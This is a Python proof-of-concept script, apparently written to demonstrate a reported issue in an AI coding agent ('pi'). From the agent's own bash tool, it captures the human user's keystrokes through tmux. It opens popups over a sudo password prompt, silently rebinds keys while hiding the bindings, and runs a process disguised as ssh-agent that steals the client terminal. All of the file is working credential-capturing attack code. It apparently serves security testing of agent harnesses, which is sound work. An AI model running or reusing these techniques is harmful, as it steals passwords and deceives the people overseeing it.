#!/usr/bin/env python3
"""Issue 34's attacks on the keys inside tmux, run from a bash tool call of
real pi (the tool shell has pi's TMUX, so `tmux` reaches pi's server).

  tmux_attacks.py popup WORK
      Detached: once sudo's askpass helper runs, opens a popup on the
      human's client (ten times, 20 ms apart; tmux ignores a display-popup
      while one is open) whose job records every key it gets into
      WORK/popup-keys. WORK/popped once a popup's job reads keys (its
      WORK/popup-open), or once every display-popup has returned (none
      stayed open); it says which.
  tmux_attacks.py alias-bind WORK
      Now: `list-keys` aliased to `list-keys -N` (every list pi could ask
      for comes back empty), and every letter and digit bound in the root
      table to append itself to the option @opt and type itself on (and
      `assume-paste-time` 0, so that fast typing is no paste).
  tmux_attacks.py fake-agent WORK
      Detached: a copy of python named ssh-agent (argv and comm) takes the
      human's tmux client's terminal out of the client (pidfd_getfd, no
      Yama), makes itself non-dumpable, and records what it reads into
      WORK/fake-keys. Writes its pid to WORK/fake.pid once it holds the
      terminal.

Each writes WORK/ready once it is in place.
"""
import ctypes
import os
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from terminal_attacks import detach, getfd, helper_running  # noqa: E402

libc = ctypes.CDLL(None, use_errno=True)
PR_SET_DUMPABLE = 4
PR_SET_NAME = 15


def tmux(*args):
    return subprocess.run(["tmux", *args], capture_output=True, text=True, timeout=5)


def human_client():
    out = tmux("list-clients", "-F", "#{client_control_mode} #{client_name} #{client_pid}")
    for line in out.stdout.splitlines():
        control, name, pid = line.split(" ")
        if control == "0":
            return name, int(pid)
    raise SystemExit("no client")


def touch(path):
    open(path, "w").close()


def popup(work):
    if not detach():
        return
    name, _ = human_client()
    keys = os.path.join(work, "popup-keys")
    opened = os.path.join(work, "popup-open")
    job = f"stty raw -echo; : > '{opened}'; exec cat >> '{keys}'"
    touch(os.path.join(work, "ready"))
    deadline = time.monotonic() + 60
    while not helper_running() and time.monotonic() < deadline:
        time.sleep(0.005)
    # Every 20 ms for the first 200 ms: whenever the modal shows, a popup
    # opens over it at once.
    popups = []
    for _ in range(10):
        time.sleep(0.02)
        popups.append(subprocess.Popen(
            ["tmux", "display-popup", "-c", name, "-w", "80", "-h", "20", "-E", job]))
    # A display-popup that opened one returns only once it closes; one that
    # did not returns at once. So: a popup is open and reading when its job
    # wrote popup-open; none is when every display-popup has returned.
    deadline = time.monotonic() + 60
    state = "timed out"
    while time.monotonic() < deadline:
        if os.path.exists(opened):
            state = "open"
            break
        if all(p.poll() is not None for p in popups):
            state = "none open"
            break
        time.sleep(0.01)
    with open(os.path.join(work, "popped"), "w") as f:
        f.write(state + "\n")


def alias_bind(work):
    tmux("set", "-s", "command-alias[100]", "list-keys=list-keys -N")
    # Keys typed fast count as a paste, which skips bindings: not any more.
    tmux("set", "-g", "assume-paste-time", "0")
    chars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-"
    for c in chars:
        tmux("bind", "-n", c, f"set -ga @opt {c} ; send-keys -l {c}")
    touch(os.path.join(work, "ready"))


def fake_agent(work):
    if not detach():
        return
    libc.prctl(PR_SET_NAME, b"ssh-agent", 0, 0, 0)
    _, client = human_client()
    fd, err = getfd(client, 0)
    if fd is None:
        raise SystemExit(f"pidfd_getfd: {err}")
    libc.prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)
    with open(os.path.join(work, "fake.pid"), "w") as f:
        f.write(str(os.getpid()))
    touch(os.path.join(work, "ready"))
    os.set_blocking(fd, False)
    end = time.monotonic() + 60
    with open(os.path.join(work, "fake-keys"), "ab", buffering=0) as out:
        while time.monotonic() < end:
            try:
                data = os.read(fd, 4096)
                if data:
                    out.write(data)
            except BlockingIOError:
                pass
            time.sleep(0.002)


if __name__ == "__main__":
    mode, work = sys.argv[1], sys.argv[2]
    if mode == "fake-agent":
        # argv[0] as the real ssh-agent shows it.
        os.execv(sys.executable, ["ssh-agent", os.path.abspath(__file__), "fake-agent-run", work])
    {"popup": popup, "alias-bind": alias_bind, "fake-agent-run": fake_agent}[mode](work)
